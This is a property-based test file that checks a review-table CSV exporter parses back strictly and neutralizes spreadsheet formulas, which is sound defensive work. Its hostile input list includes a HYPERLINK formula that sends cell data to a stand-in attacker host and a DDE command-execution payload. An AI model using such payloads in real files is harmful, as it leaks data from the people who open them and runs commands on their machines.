/**
 * Property tests (reliability plan I3): whatever a paper's fields hold, the review table as CSV
 * parses back with a strict RFC 4180 parser (csv-parse) to a header and one record per paper,
 * every record the columns' width, every cell the paper's plain text or that text behind one `'`;
 * no cell starts as a formula (`= + - @`, their full-width forms, tab, CR or NUL, also after
 * leading white space); and a reader that drops the `'` as csv.ts documents gets the text back
 * exactly. `FUZZ_RUNS` sets the number of runs, `FUZZ_SEED` the seed.
 */

import { parse } from 'csv-parse/sync';
import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import { neutralizeFormula, reviewTableCsv } from '../../../../shared/export/csv';
import { customColumnKey, reviewColumnDefinitions, reviewColumnIds } from '../../../../shared/export/review-columns';
import { newPaper, type Column, type Paper } from '../../../../shared/model/library';
import { fuzzSettings, hostileTextFrom, paperFieldsFrom } from '../../../helpers/hostile-text';

const { runs: RUNS, seed: SEED, timeout: TIMEOUT } = fuzzSettings(2000);
const now = '2026-01-01T00:00:00.000Z';

const HOSTILE = [
  '=', '+', '-', '@', '＝', '＋', '－', '＠', '\t', '\r', '\n', '\r\n', '\0', ' ', '\u00a0', '\u3000', '\ufeff', "'", "''",
  '"', '""', ',', ';', '=HYPERLINK("http://evil.example/?q="&A1,"Click")', '=cmd|\' /C calc\'!A0', '@SUM(1+1)', '-2+3', '+1',
  '1', '2019', '-1.5', '0x1', '|', '<script>', '\\', '\u2028', '\ud800', '\u{1f600}',
];

const hostileText = hostileTextFrom(HOSTILE);

function paperArbitrary(id: string): fc.Arbitrary<Paper> {
  return fc
    .record({
      ...paperFieldsFrom(hostileText),
      doi: fc.option(hostileText, { nil: undefined }),
      c1: fc.oneof(hostileText, fc.boolean(), fc.constant(null)),
      c2: fc.oneof(fc.double(), fc.integer(), hostileText),
    })
    .map(({ c1, c2, ...fields }) => newPaper({ id, ...fields, fields: { c1, c2 } }, now));
}

const papersArbitrary = fc.integer({ min: 0, max: 4 }).chain((count) => fc.tuple(...Array.from({ length: count }, (_, index) => paperArbitrary(`p${index}`))));

/** What a spreadsheet runs as a formula (OWASP's list, NUL, full-width forms, and after leading white space). */
const FORMULA = /^(?:[\t\r\0]|[\s\0]*[=+\-@\uff1d\uff0b\uff0d\uff20])/;
const PLAIN_NUMBER = /^-?\d+(?:\.\d+)?$/;

/** The reader's side, as csv.ts documents it: one leading `'` dropped where `'`s precede a formula start. */
function unneutralize(cell: string): string {
  return /^'+(?:[\t\r\0]|[\s\0]*[=+\-@\uff1d\uff0b\uff0d\uff20])/.test(cell) ? cell.slice(1) : cell;
}

function parseCsv(text: string, bom: boolean): string[][] {
  return parse(text, { bom, relax_quotes: false, relax_column_count: false, skip_empty_lines: false }) as string[][];
}

describe('review table CSV with hostile cells', () => {
  it('parses back strictly to the cells, none a formula, each its text again once the documented quote is dropped', () => {
    fc.assert(
      fc.property(
        papersArbitrary,
        fc.constantFrom('\r\n' as const, '\n' as const),
        fc.boolean(),
        hostileText.filter((name) => name.length > 0 && name.length <= 200),
        (papers, lineEnding, bom, columnName) => {
          const columns: Column[] = [
            { id: 'c1', name: columnName, kind: 'text' },
            { id: 'c2', name: 'Count', kind: 'number' },
          ];
          const columnIds = [...reviewColumnIds, customColumnKey('c1'), customColumnKey('c2')];
          const text = reviewTableCsv(papers, columnIds, { columns, lineEnding, bom });
          const rows = parseCsv(text, bom);
          const definitions = reviewColumnDefinitions(columnIds, columns);
          // The file is UTF-8, where a lone surrogate can only be U+FFFD.
          const utf8 = (value: string) => Buffer.from(value, 'utf8').toString('utf8');
          const expected = [definitions.map((column) => utf8(column.label)), ...papers.map((paper) => definitions.map((column) => utf8(column.value(paper))))];

          expect(rows).toHaveLength(papers.length + 1);
          // Plain checks, and expect() only on a failure: thousands of runs of ~50 cells each.
          const problems: unknown[] = [];
          rows.forEach((row, rowIndex) => {
            if (row.length !== columnIds.length) problems.push({ rowIndex, width: row.length });
            row.forEach((cell, columnIndex) => {
              const value = expected[rowIndex]?.[columnIndex] ?? '';
              const plainNumber = rowIndex > 0 && columnIndex === columnIds.length - 1 && PLAIN_NUMBER.test(value);
              const same = cell === value || cell === `'${value}`;
              const safe = plainNumber || (!FORMULA.test(cell) && unneutralize(cell) === value);
              if (!same || !safe) problems.push({ cell, value });
            });
          });
          expect(problems).toEqual([]);
        },
      ),
      { seed: SEED, numRuns: RUNS },
    );
  }, TIMEOUT);
});

describe('CSV: the counterexamples the property found', () => {
  it.each([
    ["a text that starts with ' before a formula keeps its own quote", "'=1+1", "''=1+1"],
    ["and with two", "''@SUM(1)", "'''@SUM(1)"],
    ['a leading NUL', '\0', "'\0"],
    ['a NUL before a formula', '\0=1+1', "'\0=1+1"],
    ['a quote before plain text stays as it is', "'Tis", "'Tis"],
  ])('%s', (_name, text, cell) => {
    expect(neutralizeFormula(text)).toBe(cell);
    expect(unneutralize(cell)).toBe(text);
    const csv = reviewTableCsv([newPaper({ id: 'p', title: text }, now)], ['title']);
    expect(parseCsv(csv, false)).toEqual([['Title'], [cell]]);
  });
});
